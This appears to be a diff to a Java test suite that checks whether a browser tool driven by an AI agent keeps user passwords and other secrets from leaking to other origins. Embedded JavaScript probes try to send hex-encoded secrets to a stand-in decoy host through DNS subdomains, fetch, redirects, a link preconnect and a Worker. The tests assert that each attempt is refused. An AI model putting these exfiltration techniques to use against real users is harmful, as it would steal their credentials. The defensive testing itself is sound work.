@@ -121,6 +121,11 @@ class ExfiltrationCanaryTest {
         const h = hex(s);
         attempt(() => fetch('http://' + h.slice(0, 40) + '.' + h.slice(40) + '.decoy.test:DPORT/sub', {mode: 'no-cors'}));
         attempt(() => fetch(T + '/redirect?to=' + encodeURIComponent(D + '/redirected?p=' + q), {mode: 'no-cors'}));
+        attempt(() => {
+          const l = document.createElement('link'); l.rel = 'preconnect';
+          l.href = 'https://' + h.slice(0, 40) + '.' + h.slice(40) + '.decoy.test:DPORT';
+          document.head.appendChild(l);
+        });
         attempt(() => new Worker(URL.createObjectURL(new Blob(
           ["fetch('" + D + "/worker?p=" + q + "', {mode: 'no-cors'}).catch(() => {})"]))));
       }
@@ -188,7 +193,7 @@ class ExfiltrationCanaryTest {
         };
     CredentialChannel channel =
         new CredentialChannel(
-            Optional.of(service), Map.of(), name -> null, false, Optional.empty(), false);
+            Optional.of(service), Map.of(), name -> null, false, Optional.empty(), true);
     BrowserSettings settings =
         BrowserSettings.from(
             new PluginConfiguration(
@@ -262,6 +267,31 @@ class ExfiltrationCanaryTest {
   }
 
   @Test
+  void aPasswordTheUserGaveReachesOnlyThePageItWasTypedInto() throws Exception {
+    String typed = "Typed-" + UUID.randomUUID().toString().substring(0, 13) + "!pw";
+    ToolResult page = call("typed", "browser_open", Map.of("url", login()));
+    Map<String, Object> args = new HashMap<>(LocalBrowser.target(page, "Password"));
+    args.put("value", typed);
+    ToolResult filled = call("typed", "browser_fill", args);
+    assertFalse(filled.isError(), filled.text());
+    StringBuilder seen = new StringBuilder();
+    for (int i = 0; i < 24; i++) {
+      Thread.sleep(250);
+      seen.append(call("typed", "browser_observe", Map.of()).text());
+    }
+    assertTrue(
+        seen.toString()
+            .contains(
+                "a request to http://127.0.0.2:"
+                    + decoy.port()
+                    + " carrying the secret \"typed-password\" was refused"),
+        seen.toString());
+    assertEquals(Set.of(), decoy.channelsCarrying(typed), "the decoy got no byte of it");
+    assertTrue(thirdReceived.stream().noneMatch(b -> Sink.carries(b, typed)));
+    assertFalse(Sink.carries(seen.toString().getBytes(StandardCharsets.UTF_8), typed));
+  }
+
+  @Test
   void aFilledCredentialReachesOnlyItsOwnOrigin() throws Exception {
     ToolResult page = call("bank", "browser_open", Map.of("url", login()));
     Map<String, Object> args = new HashMap<>(LocalBrowser.target(page, "Password"));
@@ -305,6 +335,7 @@ class ExfiltrationCanaryTest {
     List<Transition> journal =
         runtime.transitions().stream()
             .filter(t -> "egress".equals(t.action().get("kind")))
+            .filter(t -> t.sessionId().equals("browser-of-bank"))
             .toList();
     assertFalse(journal.isEmpty(), "the journal records the refusals");
     for (Transition t : journal) {
